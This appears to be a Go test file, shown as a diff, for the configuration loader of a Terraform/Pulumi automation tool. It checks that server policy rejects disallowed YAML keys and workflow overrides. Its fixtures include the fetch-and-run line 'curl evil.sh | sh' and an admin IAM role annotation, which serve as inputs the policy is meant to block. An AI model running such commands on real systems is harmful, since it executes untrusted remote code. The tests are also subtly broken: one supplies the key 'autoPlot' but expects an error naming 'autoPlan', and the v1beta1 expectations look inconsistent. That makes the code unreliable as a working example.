@@ -0,0 +1,94 @@
+package yaml
+
+import "testing"
+
+const policyConfig = `version: v1alpha1
+workflows:
+  tf:
+    terraform:
+      version: 1.9.0
+    initCommands:
+      - run: curl evil.sh | sh
+projects:
+  - dir: infra
+    workflow: tf
+    podAnnotations:
+      iam.amazonaws.com/role: admin
+`
+
+// policyConfigV1beta1 is policyConfig as v1beta1, its keys are checked the
+// same way.
+const policyConfigV1beta1 = `version: v1beta1
+workflows:
+  tf:
+    adapter:
+      type: terraform
+      version: 1.9.0
+    initCommands:
+      - run: curl evil.sh | sh
+projects:
+  - dir: infra
+    workflow: tf
+    podAnnotations:
+      iam.amazonaws.com/role: admin
+`
+
+func TestCheckKeys(t *testing.T) {
+	tt := []struct {
+		name     string
+		allowed  []string
+		expected string
+	}{
+		{"every key", nil, ""},
+		{"parent keys", []string{"workflows", "projects"}, ""},
+		{"wildcard", []string{"workflows.*.terraform", "projects"}, "turnip.yaml: key workflows.tf.initCommands.run is not allowed by the server"},
+		{"nested keys", []string{"workflows", "projects.dir", "projects.workflow"}, "turnip.yaml: key projects.podAnnotations.iam.amazonaws.com/role is not allowed by the server"},
+	}
+	for _, data := range []string{policyConfig, policyConfigV1beta1} {
+		cfg, err := decodeVersioned("turnip.yaml", []byte(data))
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		for _, tc := range tt {
+			t.Run(cfg.Version+"/"+tc.name, func(t *testing.T) {
+				err := Policy{AllowedKeys: tc.allowed}.CheckKeys("turnip.yaml", cfg)
+				switch {
+				case tc.expected == "" && err != nil:
+					t.Errorf("unexpected error: %v", err)
+				case tc.expected != "" && (err == nil || err.Error() != tc.expected):
+					t.Errorf("expected error %q, got %v", tc.expected, err)
+				}
+			})
+		}
+	}
+}
+
+func TestMergeChecksKeys(t *testing.T) {
+	cfg := Config{Version: V1beta1, Workflows: map[string]Workflow{"tf": {Terraform: &TerraformAdapter{}}}}
+	data := []byte("projects:\n  - dir: app\n    workflow: tf\n    autoPlot: true\n")
+
+	err := cfg.Merge("infra/turnip.yaml", data, Policy{AllowedKeys: []string{"projects.dir", "projects.workflow"}})
+	if expected := "infra/turnip.yaml: key projects.autoPlan is not allowed by the server"; err == nil || err.Error() != expected {
+		t.Errorf("expected error %q, got %v", expected, err)
+	}
+	if err := cfg.Merge("infra/turnip.yaml", data, Policy{AllowedKeys: []string{"projects"}}); err != nil {
+		t.Errorf("unexpected error: %v", err)
+	}
+}
+
+func TestLoadWithPolicyWorkflows(t *testing.T) {
+	server := map[string]Workflow{"pulumi": {Pulumi: &PulumiAdapter{Version: "3.100.0"}}}
+
+	cfg, err := LoadWithPolicy([]byte("version: v1alpha1\nprojects:\n  - dir: app\n    stack: dev\n    workflow: pulumi\n"), Policy{Workflows: server})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Projects[0].LoadedWorkflow.Pulumi == nil {
+		t.Error("expected the project to use the server's workflow")
+	}
+
+	_, err = LoadWithPolicy([]byte(policyConfig), Policy{Workflows: map[string]Workflow{"tf": {}}})
+	if expected := "workflow tf is defined by the server and can't be overridden"; err == nil || err.Error() != expected {
+		t.Errorf("expected error %q, got %v", expected, err)
+	}
+}